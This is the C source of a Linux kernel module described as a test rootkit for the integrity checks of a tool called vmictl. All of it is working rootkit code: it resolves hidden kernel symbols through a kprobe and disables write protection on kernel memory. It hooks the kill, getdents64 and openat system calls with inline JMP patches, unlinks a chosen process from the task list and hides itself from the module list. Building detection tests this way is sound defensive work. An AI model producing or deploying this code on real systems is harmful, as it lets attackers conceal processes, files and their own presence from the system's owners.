// SPDX-License-Identifier: GPL-2.0
/*
 * A small rootkit for vmictl's integrity tests (test VM only; never load it elsewhere).
 * Module parameters choose what it does:
 *   drop_kill_pid=X        kill(X, sig) is dropped (returns 0)
 *   hide_name=NAME   getdents64 leaves out entries called NAME
 *   deny_path=PATH   openat(PATH) fails with -ENOENT
 *   unlink_pid=Y     process Y is removed from the task list (still in the pid hash)
 *   hide_module=1    the module removes itself from the module list
 * Since 6.1 stable dispatches system calls through x64_sys_call (a switch calling the handlers
 * directly), changing sys_call_table alone has no effect: each hook is installed both in the
 * table and as a 5-byte JMP over the handler's (boot-time NOP'd) __fentry__ call, and the hook
 * calls the handler's body just after those 5 bytes. That call is the handler's first
 * instruction, or its second behind an ENDBR64 when the kernel is built for IBT (Debian 13's
 * 6.12 is, Debian 12's 6.1 is not): the ENDBR64 is kept, as ftrace keeps it.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/syscalls.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/dirent.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/stop_machine.h>
#include <asm/unistd.h>
#include <asm/nops.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmictl test rootkit");

static int drop_kill_pid;
module_param(drop_kill_pid, int, 0);
static char *hide_name;
module_param(hide_name, charp, 0);
static char *deny_path;
module_param(deny_path, charp, 0);
static int unlink_pid;
module_param(unlink_pid, int, 0);
static bool hide_module;
module_param(hide_module, bool, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
typedef unsigned long (*lookup_fn)(const char *);

struct hook {
	int nr;
	const char *handler;
	syscall_fn fn;
	unsigned long addr;     /* the handler */
	u8 *slot;               /* its 5-byte __fentry__ slot */
	syscall_fn body;        /* the handler after that slot */
	unsigned long old_entry;
	u8 old_slot[5];
	bool installed;
};

static unsigned long *table;

static long rk_kill(const struct pt_regs *regs);
static long rk_getdents64(const struct pt_regs *regs);
static long rk_openat(const struct pt_regs *regs);

static struct hook hooks[] = {
	{ __NR_kill, "__x64_sys_kill", rk_kill },
	{ __NR_getdents64, "__x64_sys_getdents64", rk_getdents64 },
	{ __NR_openat, "__x64_sys_openat", rk_openat },
};

static long rk_kill(const struct pt_regs *regs)
{
	if (drop_kill_pid > 0 && (pid_t)regs->di == drop_kill_pid)
		return 0;
	return hooks[0].body(regs);
}

static long rk_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *udir = (void __user *)regs->si;
	long n = hooks[1].body(regs);
	char *buf;
	long off = 0, out = 0;

	if (n <= 0 || !hide_name || !*hide_name)
		return n;
	buf = kmalloc(n, GFP_KERNEL);
	if (!buf)
		return n;
	if (copy_from_user(buf, udir, n)) {
		kfree(buf);
		return n;
	}
	while (off < n) {
		struct linux_dirent64 *d = (void *)(buf + off);
		unsigned short len = d->d_reclen;

		if (len == 0 || off + len > n)
			break;
		if (strcmp(d->d_name, hide_name) != 0) {
			if (out != off)
				memmove(buf + out, buf + off, len);
			out += len;
		}
		off += len;
	}
	if (out != n && copy_to_user(udir, buf, out) == 0)
		n = out;
	kfree(buf);
	return n;
}

static long rk_openat(const struct pt_regs *regs)
{
	char path[256];
	long len;

	if (deny_path && *deny_path) {
		len = strncpy_from_user(path, (const char __user *)regs->si, sizeof(path));
		if (len > 0 && len < sizeof(path) && strcmp(path, deny_path) == 0)
			return -ENOENT;
	}
	return hooks[2].body(regs);
}

/* Writes with CR0.WP clear; native_write_cr0() would put WP back (CR0 pinning), so plain asm. */
static void write_protected(void *dst, const void *src, size_t len)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

struct text_patch {
	void *dst;
	const void *src;
	size_t len;
};

static int patch_stopped(void *arg)
{
	struct text_patch *p = arg;

	write_protected(p->dst, p->src, p->len);
	return 0;
}

/*
 * Behind an ENDBR64 the slot crosses an 8-byte boundary, so no single store replaces it: the
 * other CPUs wait in stop_machine meanwhile. No task can be inside the slot (one instruction),
 * and one stopped just before it resumes on the JMP.
 */
static void patch_text(void *dst, const void *src, size_t len)
{
	struct text_patch p = { dst, src, len };

	stop_machine(patch_stopped, &p, NULL);
}

static void install(struct hook *h)
{
	u8 jmp[5] = { 0xe9 };
	s32 rel = (s32)((long)h->fn - (long)(h->slot + 5));

	h->old_entry = table[h->nr];
	write_protected(&table[h->nr], &(unsigned long){ (unsigned long)h->fn }, sizeof(unsigned long));
	memcpy(h->old_slot, h->slot, sizeof(h->old_slot));
	memcpy(jmp + 1, &rel, 4);
	patch_text(h->slot, jmp, sizeof(jmp));
	h->installed = true;
}

static void uninstall(struct hook *h)
{
	if (!h->installed)
		return;
	patch_text(h->slot, h->old_slot, sizeof(h->old_slot));
	write_protected(&table[h->nr], &h->old_entry, sizeof(unsigned long));
	h->installed = false;
}

static const u8 nop5[] = { BYTES_NOP5 };

static bool is_endbr64(const u8 *p)
{
	return p[0] == 0xf3 && p[1] == 0x0f && p[2] == 0x1e && p[3] == 0xfa;
}

static bool wanted(int i)
{
	switch (i) {
	case 0: return drop_kill_pid > 0;
	case 1: return hide_name && *hide_name;
	default: return deny_path && *deny_path;
	}
}

static int __init rk_init(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	lookup_fn lookup;
	int i;

	/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it tells its address */
	if (register_kprobe(&kp) < 0)
		return -ENOENT;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	table = (unsigned long *)lookup("sys_call_table");
	if (!table)
		return -ENOENT;
	/* everything is looked up before anything changes, so a refusal leaves the kernel as it was */
	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		struct hook *h = &hooks[i];

		if (!wanted(i))
			continue;
		h->addr = lookup(h->handler);
		if (!h->addr)
			return -ENOENT;
		h->slot = (u8 *)h->addr + (is_endbr64((u8 *)h->addr) ? 4 : 0);
		/* the slot must hold ftrace's NOP: anything else (traced, hooked already) is not ours */
		if (memcmp(h->slot, nop5, sizeof(nop5)) != 0)
			return -EBUSY;
		h->body = (syscall_fn)(h->slot + 5);
	}
	if (unlink_pid > 0) {
		struct task_struct *t;
		/* tasklist_lock is not exported either */
		rwlock_t *tasklist = (rwlock_t *)lookup("tasklist_lock");

		if (!tasklist)
			return -ENOENT;
		rcu_read_lock();
		t = pid_task(find_vpid(unlink_pid), PIDTYPE_PID);
		if (!t) {
			rcu_read_unlock();
			return -ESRCH;
		}
		write_lock_irq(tasklist);
		list_del_init(&t->tasks);
		write_unlock_irq(tasklist);
		rcu_read_unlock();
	}
	for (i = 0; i < ARRAY_SIZE(hooks); i++)
		if (wanted(i))
			install(&hooks[i]);
	if (hide_module)
		list_del_init(&THIS_MODULE->list);
	pr_info("vmictl_rk: loaded (drop_kill_pid=%d hide_name=%s deny_path=%s unlink_pid=%d hide_module=%d)\n",
		drop_kill_pid, hide_name ?: "", deny_path ?: "", unlink_pid, hide_module);
	return 0;
}

static void __exit rk_exit(void)
{
	int i;

	for (i = 0; i < ARRAY_SIZE(hooks); i++)
		uninstall(&hooks[i]);
}

module_init(rk_init);
module_exit(rk_exit);
